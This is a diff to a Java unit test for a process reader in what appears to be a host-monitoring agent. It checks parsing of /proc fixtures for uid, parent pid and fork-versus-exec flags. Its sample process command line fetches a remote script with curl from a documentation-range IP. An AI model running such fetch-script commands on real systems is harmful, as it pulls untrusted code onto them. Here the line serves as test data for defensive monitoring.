@@ -1,5 +1,6 @@
 package io.microagent.collect.process;
 
+import static org.junit.jupiter.api.Assertions.assertArrayEquals;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertNull;
 
@@ -36,30 +37,45 @@ class ProcReaderTest {
 
     @Test
     void aProcessIsReadUnderTheHostRoot() {
-        ProcessExecution e = reader.read(42, T, null, ProcessExecution.EXEC, -1);
+        ProcessExecution e = reader.withStatus(42, T, null, ProcessExecution.EXEC);
         assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh", e.commandLine());
         assertEquals("/usr/bin/curl", e.executable());
         assertEquals(1000, e.uid());
         assertEquals("pi", e.userName());
         assertEquals(41, e.parentPid());
         assertEquals(42, e.pid());
+        assertArrayEquals(new int[] {1000, 41}, reader.uidAndParent(42));
     }
 
     @Test
-    void aProcessStartedAfterTheEventIsAnotherOneAndIsNotRead() {
-        long eventAtFourSeconds = 4_000_000_000L;
-        ProcessExecution e = reader.read(42, T, 7, ProcessExecution.EXEC, eventAtFourSeconds);
-        assertEquals("", e.commandLine(), "the pid was reused: nothing of the newer process is reported");
-        assertNull(e.uid());
-        assertEquals(7, e.parentPid(), "what the event itself said stays");
-        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh",
-                reader.read(42, T, null, ProcessExecution.EXEC, 6_000_000_000L).commandLine());
+    void anImageTakesTheParentAndUidTheEventsGave() {
+        ProcessExecution e = reader.image(42, T, 7, 0, ProcessExecution.EXEC);
+        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh", e.commandLine());
+        assertEquals("/usr/bin/curl", e.executable());
+        assertEquals(7, e.parentPid());
+        assertEquals(0, e.uid());
+    }
+
+    @Test
+    void aScanTellsAForkFromAnExecByTheKernelsFlag() throws IOException {
+        ProcessExecution e = reader.scanned(42, T);
+        assertEquals(ProcessExecution.EXEC, e.type());
+        assertEquals(41, e.parentPid());
+        assertEquals(1000, e.uid());
+        Files.writeString(root.resolve("proc/42/stat"), "42 (cu) rl) S 41 42 42 0 -1 4194368 0 0 0 0 0 0 0 0 20 0 1 0 500");
+        ProcessExecution forked = reader.scanned(42, T);
+        assertEquals(ProcessExecution.FORK, forked.type(), "PF_FORKNOEXEC (0x40) is set in flags 4194368");
+        assertEquals("/usr/bin/curl -s http://198.51.100.7/x.sh", forked.commandLine());
     }
 
     @Test
     void aGoneOrGarbledProcessIsUnread() throws IOException {
-        assertEquals("", reader.read(43, T, null, ProcessExecution.EXEC, -1).commandLine());
+        assertEquals("", reader.withStatus(43, T, 7, ProcessExecution.EXEC).commandLine());
+        assertEquals(7, reader.withStatus(43, T, 7, ProcessExecution.EXEC).parentPid(), "what the event said stays");
+        assertEquals("", reader.image(43, T, 7, 0, ProcessExecution.EXEC).commandLine());
+        assertNull(reader.image(43, T, 7, 0, ProcessExecution.EXEC).uid());
+        assertNull(reader.uidAndParent(43));
         Files.writeString(root.resolve("proc/42/stat"), "42 (trunc");
-        assertEquals("", reader.read(42, T, null, ProcessExecution.EXEC, -1).commandLine());
+        assertEquals("", reader.scanned(42, T).commandLine());
     }
 }
